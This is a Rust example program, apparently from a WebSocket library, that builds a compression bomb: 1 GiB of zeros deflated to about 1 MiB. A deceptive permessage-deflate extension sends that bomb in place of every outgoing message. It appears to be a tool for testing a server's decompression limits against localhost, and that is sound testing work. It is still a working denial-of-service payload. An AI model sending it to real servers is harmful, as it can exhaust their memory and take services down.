//! `cargo run --release -p compression --example bomb -- ws://127.0.0.1:9009/socket 1024`: one message of 1,024 MiB of zeros,
//! which is about 1 MiB on the wire.
//!
//! It is your own client, with an extension that lies: whatever the program sends, the bomb goes out in its place.

use std::borrow::Cow;
use std::env;
use std::error::Error;
use std::io::{self, Read, Write};
use std::process::ExitCode;
use std::sync::Arc;

use client::{Settings, connect};
use compression::deflate::TAIL;
use compression::extension::COMPRESSED;
use compression::negotiate::check_answer;
use compression::{Parameters, PermessageDeflate};
use connection::{CloseCode, Event, Extension, ExtensionError};
use echo::{Agreed, Negotiation};
use flate2::write::DeflateEncoder;
use frames::{Opcode, Part, ReservedBits, Role};
use handshake::extensions::Extension as Named;

fn main() -> ExitCode {
    let arguments = Vec::from_iter(env::args().skip(1));
    let [url, mebibytes] = arguments.as_slice() else {
        eprintln!(
            "Usage: cargo run --release -p compression --example bomb -- ws://127.0.0.1:9009/socket 1024"
        );
        return ExitCode::from(2);
    };
    match send(url, mebibytes) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("{error}");
            ExitCode::FAILURE
        }
    }
}

/// Sends the bomb, and shows what comes back.
fn send(url: &str, mebibytes: &str) -> Result<(), Box<dyn Error>> {
    let length = mebibytes.parse::<u64>()? << 20;
    let payload = zeros(length)?;
    let sent = payload.len();
    let settings = Settings {
        extension: Some(Arc::new(Bomb(payload))),
        ..Settings::default()
    };
    let (client, events) = connect(&url.parse()?, &settings)?;
    client.send_binary(&[])?;
    println!(
        "{sent} bytes on the wire, {length} bytes of zeros: {} to 1",
        length / sent as u64
    );
    for event in events {
        match event {
            Event::Close { code, reason } => println!("close {} {reason}", code.0),
            Event::Binary(bytes) => {
                println!("a message of {} bytes comes back", bytes.len());
                client.close(CloseCode::NORMAL, "")?;
            }
            _ => {}
        }
    }
    Ok(())
}

/// Compresses zeros, as the payload of a message.
fn zeros(length: u64) -> io::Result<Vec<u8>> {
    let mut encoder = DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    io::copy(&mut io::repeat(0).take(length), &mut encoder)?;
    encoder.flush()?;
    let mut payload = encoder.get_ref().clone();
    payload.truncate(payload.len() - TAIL.len());
    Ok(payload)
}

/// Offers compression.
#[derive(Debug)]
struct Bomb(Vec<u8>);

impl Negotiation for Bomb {
    fn offer(&self) -> String {
        Parameters::default().write(Role::Client)
    }

    fn accept(&self, chosen: &[Named]) -> Option<Box<dyn Extension>> {
        let agreed = check_answer(&Parameters::default(), chosen).ok()??;
        Some(Box::new(Armed {
            payload: self.0.clone(),
            honest: PermessageDeflate::new(Role::Client, &agreed, 0),
        }))
    }

    fn choose(&self, _offers: &[Named]) -> Option<Agreed> {
        None
    }

    fn pack_for_all(&self, _text: &str) -> Option<(ReservedBits, Vec<u8>)> {
        None
    }
}

/// Sends its payload in place of every message, and receives as usual.
struct Armed {
    payload: Vec<u8>,
    honest: PermessageDeflate,
}

impl Extension for Armed {
    fn reserved_bits(&self) -> ReservedBits {
        COMPRESSED
    }

    fn receive(&mut self, part: Part) {
        self.honest.receive(part);
    }

    fn next_part(&mut self) -> Result<Option<Part>, ExtensionError> {
        self.honest.next_part()
    }

    fn send<'a>(&mut self, _opcode: Opcode, _payload: &'a [u8]) -> (ReservedBits, Cow<'a, [u8]>) {
        (COMPRESSED, Cow::Owned(self.payload.clone()))
    }
}
